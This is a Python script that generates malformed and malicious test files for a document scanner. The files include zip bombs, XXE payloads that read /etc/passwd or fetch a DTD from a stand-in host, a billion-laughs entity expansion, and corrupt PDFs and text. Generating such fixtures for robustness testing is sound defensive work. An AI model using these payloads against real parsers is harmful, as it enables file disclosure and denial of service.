#!/usr/bin/env python3
"""Write hostile inputs for the scanner: broken and malicious office files,
PDFs and text. usage: gen_hostile.py OUTDIR"""
import os
import random
import sys
import zipfile

sys.dont_write_bytecode = True   # leave no __pycache__ in the source tree
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import officegen   # noqa: E402
import pdfgen      # noqa: E402

W = officegen.W
HEAD = officegen.HEAD


def zipped(path, members):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(name, data)


def main(out):
    os.makedirs(out, exist_ok=True)
    p = lambda name: os.path.join(out, name)   # noqa: E731
    good = officegen.docx(["Contact jane@example.org or 07700 900123"])
    open(p("good.docx"), "wb").write(good)
    open(p("truncated.docx"), "wb").write(good[:len(good) // 2])
    open(p("truncated-tail.docx"), "wb").write(good[:-10])
    # a member that inflates to 64 MiB (the tests allow 8)
    zipped(p("bomb.docx"), [("word/document.xml", HEAD + "<w:document %s><w:body>" % W +
                             "<w:p/>" * ((64 << 20) // 6) + "</w:body></w:document>")])
    # members each under the bound, together over it
    zipped(p("bomb-total.pptx"), [("ppt/slides/slide%d.xml" % i, HEAD + "<p:sld>" + " " * (6 << 20) + "</p:sld>")
                                  for i in range(4)])
    zipped(p("xxe.docx"), [("word/document.xml", HEAD +
                            '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                            '<w:document %s><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>' % W)])
    zipped(p("xxe-net.odt"), [("mimetype", "application/vnd.oasis.opendocument.text"),
                              ("content.xml", HEAD + '<!DOCTYPE d SYSTEM "http://192.0.2.1/evil.dtd"><d>&e;</d>')])
    laughs = "".join('<!ENTITY l%d "&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;">' % ((i,) + (i - 1,) * 10)
                     for i in range(1, 10))
    zipped(p("laughs.xlsx"), [("xl/sharedStrings.xml", HEAD + '<!DOCTYPE sst [<!ENTITY l0 "lol">%s]>'
                               '<sst><si><t>&l9;</t></si></sst>' % laughs)])
    zipped(p("deep.docx"), [("word/document.xml", HEAD + "<w:document %s>" % W + "<w:p>" * 5000 +
                             "</w:p>" * 5000 + "</w:document>")])
    zipped(p("notxml.docx"), [("word/document.xml", "<w:document><w:p>unclosed & broken")])
    zipped(p("plain.zip"), [("readme.txt", "jane@example.org")])
    pdf = pdfgen.pdf_bytes([["DOB: 12/03/1985 jane@example.org"]], compress=True)
    open(p("truncated.pdf"), "wb").write(pdf[:len(pdf) // 2])
    r = random.Random(3)
    open(p("garbage.pdf"), "wb").write(b"%PDF-1.7\n" + bytes(r.randrange(256) for _ in range(20000)))
    open(p("nopdf.pdf"), "wb").write(b"%PDF-")
    bad = bytes(r.choice([0x80, 0xBF, 0xC0, 0xC1, 0xF5, 0xFF, 0xE2, 0xF0]) for _ in range(5000))
    open(p("invalid-utf8.txt"), "wb").write(bad + b" jane@example.org \xe2\x82 07700 900123 \xff" + bad)
    open(p("empty.txt"), "wb").write(b"")
    open(p("binary.bin"), "wb").write(b"\x7fELF\x02\x01\x01\x00" + bytes(5000))


if __name__ == "__main__":
    main(sys.argv[1])
